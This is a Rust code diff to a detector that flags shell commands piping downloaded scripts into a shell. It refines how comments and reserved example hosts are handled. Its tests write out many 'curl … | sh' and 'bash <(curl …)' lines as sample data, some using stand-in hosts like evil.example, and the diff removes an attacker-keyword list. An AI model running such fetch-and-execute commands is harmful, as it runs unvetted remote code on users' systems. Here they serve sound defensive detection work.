@@ -1,5 +1,6 @@
 //! Recognizes shell commands that run a downloaded script: `curl … | sh`, `bash <(curl …)`.
 
+use crate::capabilities::hosts::is_reserved;
 use crate::span::Span;
 
 /// Maximum number of bytes that are read as the name of a command. Without it, a megabyte without
@@ -36,8 +37,10 @@ pub(crate) fn commands(code: &str) -> impl Iterator<Item = Span> {
         let start = at;
         loop {
             let line = lines.next()?;
+            // A shell does not continue a comment on the next line.
+            let is_comment = at == start && line.trim_start().starts_with('#');
             at += line.len();
-            if !line.trim_end().ends_with(['\\', '|']) || at == code.len() {
+            if is_comment || !line.trim_end().ends_with(['\\', '|']) || at == code.len() {
                 break;
             }
         }
@@ -50,8 +53,8 @@ pub(crate) fn commands(code: &str) -> impl Iterator<Item = Span> {
     })
 }
 
-/// Whether only a text that the command prints contains the download: `x || echo "curl … | sh"`.
-pub(crate) fn is_printed(command: &str) -> bool {
+/// Whether only a text that the command prints contains the command that `runs` finds: `x || echo "curl … | sh"`.
+pub(crate) fn is_printed(command: &str, runs: fn(&str) -> bool) -> bool {
     const PRINTERS: [&str; 12] = [
         "echo",
         "print",
@@ -76,18 +79,25 @@ pub(crate) fn is_printed(command: &str) -> bool {
     let (text, after) = text.split_once(mark).unwrap_or((text, ""));
     is_printer
         && !text.contains("$(")
-        && !runs_download(before)
-        && !runs_download(after)
+        && !runs(before)
+        && !runs(after)
         && !after.trim_start().starts_with('|')
 }
 
-/// Whether a host is an example of an attack, as in `https://evil.example/x.sh`.
-pub(crate) fn is_attack(command: &str) -> bool {
-    let words = command.split(|c: char| !c.is_alphanumeric() && !".-@:".contains(c));
-    let mut labels = words
-        .filter(|word| word.contains('.'))
-        .flat_map(|host| host.split(['.', '-', '@', ':']));
-    labels.any(|label| matches!(label, "attacker" | "evil" | "malicious"))
+/// Whether RFC 2606 reserves all hosts of a command, as in `curl https://example.org/i | sh`. No one can register
+/// them.
+pub(crate) fn has_only_reserved_hosts(command: &str) -> bool {
+    let mut words = command
+        .split(|c: char| c.is_whitespace() || "\"'`()<>|".contains(c))
+        .filter(|word| word.contains(['.', '$', ':', '/']) && *word != "$")
+        .peekable();
+    words.peek().is_some()
+        && words.all(|word| {
+            let rest = word.split_once("://").map_or(word, |(_, rest)| rest);
+            let host = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
+            let is_host = |c: char| c.is_ascii_alphanumeric() || ".-".contains(c);
+            host.chars().all(is_host) && is_reserved(&host.to_ascii_lowercase())
+        })
 }
 
 /// Whether a text has a pipe or a bracket, as each of these commands has.
@@ -268,13 +278,44 @@ mod tests {
     }
 
     #[test]
+    fn only_reserved_hosts_are_samples() {
+        for command in [
+            "curl https://example.org/i | sh",
+            "bash <(curl -s https://evil.example/i.sh)",
+            "sh -c \"$(curl -fsSL http://x.test)\"",
+        ] {
+            assert!(has_only_reserved_hosts(command), "{command}");
+        }
+        for command in [
+            "curl https://evil.example.io/i | sh",
+            "curl https://evil-host.io/i | sh",
+            "curl https://example.org.acme.io/i | sh",
+            "curl https://example.org@acme.io/i | sh",
+            "curl https://example.org:x@acme.io/i | sh",
+            "curl $URL -H example.org | sh",
+            "curl https://acme.io/i?example.org | sh # example.org",
+            "curl https://example.org/i -x acme.io | sh",
+            "curl https://example.org/i; curl acme.io/x | sh",
+        ] {
+            assert!(!has_only_reserved_hosts(command), "{command}");
+        }
+    }
+
+    #[test]
+    fn comment_is_not_continued() {
+        let code = "# x |\ncurl https://x.y/i | sh\n# y \\\nls\n";
+        let found: Vec<&str> = commands(code).map(|span| span.of(code)).collect();
+        assert_eq!(found, ["# x |", "curl https://x.y/i | sh", "# y \\", "ls"]);
+    }
+
+    #[test]
     fn printed_command_differs_from_one_after_a_text() {
         for command in [
             "echo 'curl https://x.y/i | sh'",
             "which uv || echo \"install uv: curl https://x.y/i | sh\"",
             "Write-Host \"irm https://x.y/i.ps1 | iex\"",
         ] {
-            assert!(is_printed(command), "{command}");
+            assert!(is_printed(command, runs_download), "{command}");
         }
         for command in [
             "echo 'Installing' && curl https://x.y/i | sh",
@@ -282,7 +323,7 @@ mod tests {
             "echo \"$(curl https://x.y/i | sh)\"",
             "sh -c 'curl https://x.y/i | sh'",
         ] {
-            assert!(!is_printed(command), "{command}");
+            assert!(!is_printed(command, runs_download), "{command}");
         }
     }
 
